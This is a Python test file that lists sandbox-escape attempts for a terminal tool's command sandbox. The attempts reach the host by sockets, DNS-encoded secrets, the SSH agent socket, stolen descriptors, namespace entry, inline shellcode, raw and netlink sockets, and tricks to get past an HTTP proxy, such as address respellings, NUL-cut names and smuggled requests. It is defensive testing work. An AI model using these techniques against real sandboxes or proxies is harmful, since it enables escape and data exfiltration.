"""Attempts to reach anything by a socket. Listeners of the host wait for the attempt's name."""

# Programs of the attacker, a row each: long lines and joined strings read best here.
# ruff: noqa: E501, ISC004

from __future__ import annotations

from tests.escape.attempts import Attempt, heard, said
from turbo_tui.core.command import ANY_NETWORK, Grants

_TCP = "import socket\nsocket.create_connection(({}, {}), 3).sendall(NAME.encode())"
_UNIX = "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({})\ns.sendall(NAME.encode())"

_HEARD = (
    ("tcp4", "A server of the host is reached over IPv4", _TCP.format("'127.0.0.1'", "PORT4")),
    ("tcp6", "A server of the host is reached over IPv6", _TCP.format("'::1'", "PORT6")),
    ("tcp-own-address", "The host is reached by its address on the network", _TCP.format("ADDRESS4", "PORT_ANY")),
    ("tcp-mapped", "A server is reached by an IPv4 address dressed as IPv6", _TCP.format("'::ffff:127.0.0.1'", "PORT4")),
    (
        "tcp-fast-open",
        "A server is reached by a first packet that carries data",
        "import socket\ns = socket.socket()\n"
        "s.sendto(NAME.encode(), 0x20000000, ('127.0.0.1', PORT4))",
    ),
    (
        "udp",
        "A packet goes out over UDP",
        "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(NAME.encode(), ('127.0.0.1', UDP_PORT))",
    ),
    (
        "dns",
        "A secret goes out as a name that is looked up",
        "import socket, struct\n"
        "name = b''.join(bytes([len(x)]) + x for x in (NAME.encode(), b'example'))\n"
        "query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + name + b'\\0\\0\\x01\\0\\x01'\n"
        "socket.socket(type=socket.SOCK_DGRAM).sendto(query, (ADDRESS4, UDP_PORT))",
    ),
    (
        "udp-broadcast",
        "A packet goes out to everybody",
        "import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\n"
        "s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
        "s.sendto(NAME.encode(), ('127.255.255.255', UDP_PORT))",
    ),
    ("unix-path", "An agent of the user is reached by its socket's path", _UNIX.format("AGENT")),
    ("unix-in-workspace", "A socket in the workspace is reached", _UNIX.format("WS + '/agent.sock'")),
    ("unix-abstract", "An agent is reached by its socket's name", _UNIX.format("'\\0' + ABSTRACT")),
    (
        "unix-descriptor",
        "A socket is reached by a path through a descriptor",
        "import socket\nfd = os.open(os.path.dirname(AGENT), os.O_PATH)\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        "s.connect(f'/proc/self/fd/{fd}/' + os.path.basename(AGENT))\ns.sendall(NAME.encode())",
    ),
    (
        "unix-pair",
        "A pair of sockets is aimed at a socket of the host",
        "import socket\na, b = socket.socketpair(type=socket.SOCK_DGRAM)\n"
        "a.sendto(NAME.encode(), DATAGRAM)",
    ),
    (
        "bus",
        "The desktop's bus is reached by the address in the environment",
        "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "s.connect(os.environ.get('SSH_AUTH_SOCK', AGENT))\ns.sendall(NAME.encode())",
    ),
    (
        "stolen-socket",
        "A connection is taken from a process of the host and used",
        "import socket\nfd = call('pidfd_getfd', os.pidfd_open(RUNNER), WIRE_FD, 0)\n"
        "os.write(fd, NAME.encode())",
    ),
    (
        "host-network",
        "The network of the host is entered",
        "import socket\ncall('setns', os.open(f'/proc/{RUNNER}/ns/net', os.O_RDONLY), 0x40000000)\n"
        "socket.create_connection(('127.0.0.1', PORT4), 3).sendall(NAME.encode())",
    ),
    (
        "foreign-call",
        "A server is reached by the socket call of another machine's numbers",
        "import mmap, struct\n"
        "low = mmap.mmap(-1, 4096, flags=0x62, prot=7)\n"  # MAP_32BIT
        "at = ctypes.addressof(ctypes.c_char.from_buffer(low))\n"
        "low[256:268] = struct.pack('<3I', 2, 1, 0)\n"
        "code = b'\\x53\\xb8' + struct.pack('<I', 102) + b'\\xbb' + struct.pack('<I', 1)\n"
        "code += b'\\xb9' + struct.pack('<I', at + 256) + b'\\xcd\\x80\\x5b\\xc3'\n"
        "low[:len(code)] = code\n"
        "fd = ctypes.CFUNCTYPE(ctypes.c_int)(at)()\n"
        "import socket\ns = socket.socket(fileno=fd)\n"
        "s.connect(('127.0.0.1', PORT4)); s.sendall(NAME.encode())",
    ),
)  # fmt: skip

_OPENED = (
    ("raw", "Packets are made by hand", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1); won()"),
    ("ping", "A ping socket is opened", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).connect((ADDRESS4, 0)); won()"),
    ("packet", "The wire itself is opened", "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300); won()"),
    ("vsock", "The machine's own host is reached by vsock", "import socket\nsocket.socket(socket.AF_VSOCK); won()"),
    ("crypto-socket", "The kernel's ciphers are reached by a socket", "import socket\nsocket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0).bind(('hash', 'sha256')); won()"),
    ("bluetooth", "A radio is reached", "import socket\nsocket.socket(socket.AF_BLUETOOTH, socket.SOCK_RAW, 1); won()"),
    ("xdp", "An express path to the wire is opened", "import socket\nsocket.socket(44, socket.SOCK_RAW, 0); won()"),
    ("key-socket", "The keys of IPsec are reached", "import socket\nsocket.socket(15, socket.SOCK_RAW, 2); won()"),
    (
        "netlink-links",
        "The host's network cards are listed",
        "import socket, struct\ns = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
        "s.bind((0, 0)); s.settimeout(3)\n"
        "s.send(struct.pack('<IHHIIBxHiII', 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0))\n"
        "if any(card.encode() in s.recv(65536) for card in CARDS): won()",
    ),
    (
        "netlink-change",
        "A network card is made",
        "import socket, struct\ns = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
        "s.bind((0, 0)); s.settimeout(3)\n"
        "kind = struct.pack('<HH5sxxx', 9, 1, b'dummy'); info = struct.pack('<HH', 4 + len(kind), 18) + kind\n"
        "name = struct.pack('<HH8s', 12, 3, b'tt-evil\\0')\n"
        "def ask(what, flags, more):\n"
        "    body = struct.pack('<BxHiII', 0, 0, 0, 0, 0) + more\n"
        "    s.send(struct.pack('<IHHII', 16 + len(body), what, flags, 1, 0) + body)\n"
        "    return struct.unpack('<i', s.recv(4096)[16:20])[0]\n"
        "made = ask(16, 0x605, name + info)\n"
        "if made in (0, -95):\n    ask(17, 5, name); won()\n",
    ),
    (
        "netlink-audit",
        "The kernel's audit is listened to",
        "import socket\ns = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9); s.bind((0, 1)); won()",
    ),
)  # fmt: skip

# Through the proxy that stands before listed hosts; without a sandbox there is none.
_ASK = """
import socket
from urllib.parse import urlsplit
proxy = urlsplit(os.environ.get('http_proxy') or os.environ.get('HTTP_PROXY') or '')
def ask(*pieces):
    s = socket.create_connection((proxy.hostname or '127.0.0.1', proxy.port or PORT4), 5)
    if not proxy.port:
        return s.sendall(NAME.encode())
    for piece in pieces:
        s.sendall(piece if isinstance(piece, bytes) else piece.encode())
        print(s.recv(4096))
    s.sendall(NAME.encode()); s.shutdown(socket.SHUT_WR); print(s.recv(4096))
"""
_LISTED = ("127.0.0.1:{PORT_LISTED}",)
_PROXIED: tuple[tuple[str, str, tuple[str, ...], str], ...] = (
    ("past-proxy", "A host is reached past the proxy", _LISTED, _TCP.format("'127.0.0.1'", "PORT4")),
    ("past-proxy6", "A host is reached past the proxy, over IPv6", _LISTED, _TCP.format("'::1'", "PORT6")),
    ("no-host-listed", "A host is reached where none is listed", (), _ASK + "ask(f'CONNECT 127.0.0.1:{PORT4} HTTP/1.1\\r\\n\\r\\n')"),
    ("other-port", "Another port of a listed host is reached", _LISTED, _ASK + "ask(f'CONNECT 127.0.0.1:{PORT4} HTTP/1.1\\r\\n\\r\\n')"),
    ("other-port-plain", "Another port of a listed host is asked", _LISTED, _ASK + "ask(f'GET http://127.0.0.1:{PORT4}/ HTTP/1.1\\r\\nX: |{NAME}|\\r\\n\\r\\n')"),
    ("other-spelling", "A host is reached by another spelling of its address", _LISTED, _ASK + "for name in ('127.1', '0x7f000001', '2130706433', '017700000001', '[::ffff:127.0.0.1]', 'localhost', '127.0.0.1.'):\n    try:\n        ask(f'CONNECT {name}:{PORT4} HTTP/1.1\\r\\n\\r\\n')\n    except OSError as error:\n        print(error)"),
    ("name-with-nul", "A name is cut short by a NUL", ("*.listed.example", "127.0.0.1:{PORT_LISTED}"), _ASK + "for name in (b'127.0.0.1\\0.listed.example', b'127.0.0.1%00.listed.example'):\n    try:\n        ask(b'CONNECT ' + name + b':%d HTTP/1.1\\r\\n\\r\\n' % PORT4)\n    except OSError as error:\n        print(error)"),
    ("name-and-password", "A listed name stands before another as its password", _LISTED, _ASK + "ask(f'GET http://127.0.0.1:{PORT_LISTED}@127.0.0.1:{PORT4}/ HTTP/1.1\\r\\nX: |{NAME}|\\r\\n\\r\\n')"),
    ("second-request", "A second request follows a listed one", _LISTED, _ASK + "ask(f'GET http://127.0.0.1:{PORT_LISTED}/ HTTP/1.1\\r\\nContent-Length: 0\\r\\n\\r\\nGET http://127.0.0.1:{PORT4}/ HTTP/1.1\\r\\nX: |{NAME}|\\r\\n\\r\\n')"),
    ("split-line", "A request's first line holds another", _LISTED, _ASK + "ask(f'CONNECT 127.0.0.1:{PORT4}\\tHTTP/1.1\\r\\n\\r\\n')"),
    ("proxy-unix", "A socket of the user is reached where hosts are granted", _LISTED, _UNIX.format("AGENT")),
    ("proxy-udp", "A packet goes out where hosts are granted", _LISTED, "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(NAME.encode(), ('127.0.0.1', UDP_PORT))"),
)  # fmt: skip

SOCKETS: tuple[Attempt, ...] = (
    *(Attempt(name, title, program, heard) for name, title, program in _HEARD),
    *(Attempt(name, title, program, said) for name, title, program in _OPENED),
    *(
        Attempt(
            f"{name}-with-network",
            f"{title}, by a command that was granted the network",
            program,
            heard,
            alone=True,
            grants=ANY_NETWORK,
        )
        for name, title, program in _HEARD
        if name in {"unix-path", "unix-abstract", "unix-pair"}
    ),
    Attempt(
        "vsock-with-network",
        "The machine's own host is reached by vsock, by a command that was granted the network",
        "import socket\nsocket.socket(socket.AF_VSOCK); won()",
        said,
        alone=True,
        grants=ANY_NETWORK,
    ),
    *(
        Attempt(
            f"{name}-with-own-sockets",
            f"{title}, by a command that was granted sockets of its own",
            program,
            heard,
            alone=True,
            grants=Grants(unix_sockets=True),
        )
        for name, title, program in _HEARD
        if name in {"unix-path", "unix-abstract", "unix-in-workspace", "tcp4"}
    ),
    *(
        Attempt(
            name, title, program, heard, alone=True, grants=Grants(network="hosts", hosts=hosts)
        )
        for name, title, hosts, program in _PROXIED
    ),
    *(
        Attempt(
            f"{name}-with-debugging",
            f"{title}, by a command that was granted ptrace",
            program,
            sign,
            alone=True,
            grants=Grants(ptrace=True),
        )
        for name, title, program, sign in ((*_HEARD[0], heard),)
    ),
)
